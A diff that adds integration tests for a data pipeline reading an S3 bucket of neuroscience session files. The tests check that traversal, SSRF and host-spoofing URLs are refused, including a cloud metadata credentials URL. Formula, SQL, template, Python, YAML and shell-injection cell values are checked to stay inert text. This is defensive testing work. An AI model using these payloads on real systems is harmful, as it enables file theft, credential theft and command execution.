@@ -1,0 +1,223 @@
+"""Buckets that mean harm: keys that lead elsewhere, cells that are programs, names that are no names."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import random
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import pyarrow.parquet as pq
+import pytest
+from builders.bucket import HOST, PROJECT, Bucket, blake2b, to_csv
+from builders.command import vblake
+from builders.lakes import query
+from builders.network import ingest_from, manifest_of, source_of
+from servers.s3 import S3Server
+
+from pipelines.planning import Selection
+from pipelines.project_tables import read_project_tables
+from pipelines.releases import load_release
+from pipelines.sources import SourceSpec, open_source
+from schemas.errors import CastError, ReleaseError, SourceError
+
+pytestmark = pytest.mark.integration
+
+CANARY = "c4n4ry"
+GOOD = f"{PROJECT}/behavior_sessions/behavior_session_1001.nwb"
+
+
+@pytest.fixture
+def place(tmp_path: Path) -> Path:
+    """A folder with a bucket and, beside it, a file that is none of its."""
+    Bucket().write(tmp_path / "bucket")
+    (tmp_path / "secret.nwb").write_text(CANARY)
+    (tmp_path / "bucket/secret.nwb").write_text(CANARY)
+    return tmp_path
+
+
+# --- manifests
+
+WAYS_OUT: dict[str, Callable[[Path], str]] = {
+    "..": lambda place: f"{HOST}/{PROJECT}/../secret.nwb",
+    ".. at the end": lambda place: f"{HOST}/{PROJECT}/a/..",
+    "encoded ..": lambda place: f"{HOST}/{PROJECT}/%2e%2e/%2E%2e/secret.nwb",
+    "encoded /": lambda place: f"{HOST}/{PROJECT}/..%2fsecret.nwb",
+    "encoded twice and ..": lambda place: f"{HOST}/{PROJECT}/%252e%252e/../secret.nwb",
+    "absolute": lambda place: str(place / "secret.nwb"),
+    "absolute, encoded": lambda place: f"{HOST}/{quote(str(place / 'secret.nwb'), safe='')}",
+    "two slashes": lambda place: f"{HOST}/{place}/secret.nwb",
+    "file": lambda place: f"file://{place}/secret.nwb",
+    "file, with a host": lambda place: f"file://visual-behavior-ophys-data.s3.amazonaws.com/{place}/secret.nwb",
+    "s3": lambda place: f"s3://visual-behavior-ophys-data/{GOOD}",
+    "http": lambda place: f"http://visual-behavior-ophys-data.s3.us-west-2.amazonaws.com/{GOOD}",
+    "another host": lambda place: f"https://example.org/{GOOD}",
+    "a host that ends alike": lambda place: f"https://visual-behavior-ophys-data.s3.amazonaws.com.example.org/{GOOD}",
+    "a host behind a user": lambda place: f"https://visual-behavior-ophys-data.s3.amazonaws.com@example.org/{GOOD}",
+    "metadata service": lambda place: "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+    "backslashes": lambda place: f"{HOST}/{PROJECT}\\..\\..\\secret.nwb",
+    "encoded backslashes": lambda place: f"{HOST}/{PROJECT}/..%5C..%5Csecret.nwb",
+    "nothing": lambda place: "",
+    "no key": lambda place: f"{HOST}/",
+    "NUL": lambda place: f"{HOST}/{PROJECT}/a%00.nwb",
+    "NUL, plain": lambda place: f"{HOST}/{PROJECT}/a\0.nwb",
+    "line end": lambda place: f"{HOST}/{PROJECT}/a%0d%0aHost:%20example.org",
+    "escape sequence": lambda place: f"{HOST}/{PROJECT}/%1b]0;title%07.nwb",
+    "half a character": lambda place: f"{HOST}/{PROJECT}/%c3%28.nwb",
+    "a lone surrogate": lambda place: f"{HOST}/{PROJECT}/\ud800.nwb",
+    "very long": lambda place: f"{HOST}/{PROJECT}/{'a/' * 600}b.nwb",
+    "very long, few characters": lambda place: f"{HOST}/{PROJECT}/{quote('ä' * 510)}.nwb",
+    "beside the project": lambda place: f"{HOST}/secret.nwb",
+    "alike": lambda place: f"{HOST}/{PROJECT}-2/a.nwb",
+    "signed": lambda place: f"{HOST}/{GOOD}?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE&X-Amz-Signature={CANARY}",
+    "a user": lambda place: f"https://me:{CANARY}@visual-behavior-ophys-data.s3.us-west-2.amazonaws.com/{GOOD}",
+    "a user and nonsense": lambda place: f"https://me:{CANARY}@[::1/{GOOD}",
+}
+
+
+@pytest.mark.parametrize("way", WAYS_OUT)
+@pytest.mark.parametrize("section", ["data_files", "metadata_files"])
+def test_a_key_that_leads_elsewhere_is_refused(place: Path, way: str, section: str) -> None:
+    url = WAYS_OUT[way](place)
+    path = manifest_of(place / "bucket")
+    manifest = json.loads(path.read_text())
+    name = next(iter(manifest[section]))
+    manifest[section][name] |= {"url": url, "file_hash": None, "version_id": None}
+    path.write_text(json.dumps(manifest))
+    with pytest.raises(ReleaseError) as caught:
+        load_release(open_source(SourceSpec(str(place / "bucket"))))
+    said = str(caught.value)
+    assert f"{section}[{name!r}].url: expected " in said
+    assert said.isprintable()
+    assert len(said) < 1000
+    assert CANARY not in said
+    assert "AKIA" not in said
+
+
+@pytest.mark.parametrize("way", WAYS_OUT)
+def test_a_folder_gives_nothing_beside_it(place: Path, way: str) -> None:
+    """Were such a key to get so far."""
+    source = open_source(SourceSpec(str(place / "bucket" / PROJECT)))
+    url = WAYS_OUT[way](place)
+    for key in {url, url.removeprefix(f"{HOST}/{PROJECT}/"), url.removeprefix(HOST)}:
+        for read in (lambda k: source.read(k, None), source.local_path, lambda k: source.pin(k, None)):
+            with pytest.raises(SourceError) as caught:
+                read(key)
+            assert CANARY not in str(caught.value) or CANARY in key
+
+
+def test_random_keys_stay_inside(place: Path, seed: int, soak: bool) -> None:
+    """Keys of the parts that path tricks are made of: what is opened, if anything, lies in the folder."""
+    root = place / "bucket" / PROJECT
+    (root / "out").symlink_to(place)
+    (root / "round").symlink_to(root / "round")
+    source = open_source(SourceSpec(str(root)))
+    real = [p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()]
+    parts = ["..", ".", "", "/", "\\", "\0", "~", "%2e%2e", "out", "round", "secret.nwb", "bucket", str(place), "a" * 300, "ä", "*", *real]
+    rng = random.Random(seed)
+    opened = 0
+    for case in range(20_000 if soak else 2_000):
+        key = "/".join(rng.choices(parts, k=rng.randint(1, 4)))
+        try:
+            path = source.local_path(key)
+        except SourceError:
+            continue
+        opened += 1
+        assert os.path.realpath(path).startswith(f"{os.path.realpath(root)}/"), f"case {case} of seed {seed}: {key!r}"
+        assert path.name != "secret.nwb", f"case {case} of seed {seed}: {key!r}"
+    assert opened > 50
+
+
+# --- cells
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://example.org?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "'; DROP TABLE trials; --",
+    "x'); ATTACH 'secret.duckdb' AS s; --",
+    "SELECT * FROM read_text('secret.nwb')",
+    "$$ || (SELECT 1) || $$",
+    "{{ 7*7 }} ${7*7} #{7*7} %s %(x)s {0}",
+    "__import__('os').system('touch owned')",
+    "eval(compile('1','','exec'))",
+    "!!python/object/apply:os.system [touch owned]",
+    "$(touch owned) `touch owned` ; touch owned | cat",
+    "../../owned",
+    "C:\\Windows\\owned",
+    "<script>alert(1)</script>",
+    "[red]not markup[/red]",
+    '"quoted", with, commas\nand a second line',
+    "ünï¢ödé 𝒳 \u202e",
+    "\x1b]0;title\x07",
+    "1e309",
+]
+
+
+def _with_cells(bucket: Path, column: str, values: list[str]) -> None:
+    """Puts the values into a text column of the session table, in turn, and the hash into the manifest."""
+    table = bucket / PROJECT / "project_metadata/behavior_session_table.csv"
+    rows: list[dict[str, Any]] = list(csv.DictReader(io.StringIO(table.read_text(), newline="")))
+    for number, row in enumerate(rows):
+        row[column] = values[number % len(values)]
+    table.write_bytes(to_csv(rows))
+    path = manifest_of(bucket)
+    manifest = json.loads(path.read_text())
+    manifest["metadata_files"]["behavior_session_table"] |= {"file_hash": blake2b(table.read_bytes())}
+    path.write_text(json.dumps(manifest))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_cell_is_text_and_nothing_else(sample_bucket: Path, tmp_path: Path, formula: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    bucket = tmp_path / "bucket"
+    shutil.copytree(sample_bucket / PROJECT / "manifests", bucket / PROJECT / "manifests")
+    shutil.copytree(sample_bucket / PROJECT / "project_metadata", bucket / PROJECT / "project_metadata")
+    _with_cells(bucket, "equipment_name", [formula])
+    monkeypatch.chdir(tmp_path)
+    source = open_source(SourceSpec(str(bucket)))
+    tables = read_project_tables(source, load_release(source)).tables
+    assert set(tables["behavior_sessions"].column("equipment_name").to_pylist()) == {formula}
+    assert not list(tmp_path.rglob("*owned*"))
+
+
+@pytest.mark.parametrize(
+    "column", ["driver_line", "ophys_experiment_id", "mouse_id", "date_of_acquisition", "prior_exposures_to_omissions"]
+)
+@pytest.mark.parametrize("formula", [f for f in FORMULAS if "\x1b" not in f])
+def test_a_program_in_a_typed_column_is_an_error_and_is_not_run(
+    place: Path, column: str, formula: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    bucket = Bucket()
+    bucket.tables["behavior_session_table"][0][column] = formula
+    monkeypatch.chdir(place)
+    with pytest.raises(CastError) as caught:
+        bucket.read(place / "other")
+    assert caught.value.column == column
+    assert caught.value.table == "behavior_sessions"
+    assert "project_metadata/behavior_session_table.csv" in str(caught.value)
+    assert str(caught.value).isprintable()
+    assert not list(place.rglob("*owned*"))
+
+
+def test_cells_stay_what_they_are_all_the_way(bucket: Path, tmp_path: Path) -> None:
+    """Over S3 into the lake, the catalog and the answers of the command; `--where` compares them as text."""
+    _with_cells(bucket, "equipment_name", FORMULAS)
+    with S3Server(bucket) as server:
+        ingest_from(source_of(server, read_timeout_s=30.0), tmp_path / "lake", selection=Selection(tables=("behavior_sessions",)))
+        chosen = vblake("plan", "--lake", tmp_path / "lake", "--endpoint-url", server.url, "--where", f"equipment_name = $${FORMULAS[0]}$$")
+    assert chosen.returncode == 0, chosen.stderr.decode()
+    found = {text for (text,) in query(tmp_path / "lake", "SELECT equipment_name FROM behavior_sessions")}
+    assert found
+    assert found <= set(FORMULAS)
+    file = pq.read_table(tmp_path / "lake/behavior_sessions")
+    assert set(file.column("equipment_name").to_pylist()) == found
+    as_json = vblake("sql", "--lake", tmp_path / "lake", "--format", "json", "SELECT DISTINCT equipment_name AS e FROM behavior_sessions")
+    assert {row["e"] for row in json.loads(as_json.stdout)} == found
